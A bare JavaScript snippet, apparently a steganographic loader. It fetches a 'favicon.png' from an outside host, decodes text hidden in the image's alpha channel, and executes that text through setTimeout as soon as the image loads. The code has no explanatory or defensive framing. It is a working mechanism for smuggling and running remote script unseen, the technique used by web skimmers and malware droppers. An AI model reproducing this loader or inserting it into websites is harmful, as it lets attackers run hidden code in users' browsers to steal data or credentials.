(function () {
  var i = new Image();
  i.crossOrigin = 'anonymous';
  i.onload = function () {
    var c = document.createElement('canvas'), x = c.getContext('2d');
    c.width = i.width; c.height = i.height;
    x.drawImage(i, 0, 0);
    var p = x.getImageData(0, 0, c.width, c.height).data, t = '';
    for (var k = 3; k < p.length; k += 4) { if (p[k] === 255) break; t += String.fromCharCode(p[k]); }
    setTimeout(t, 1);
  };
  i.src = 'https://img.example/favicon.png';
})();
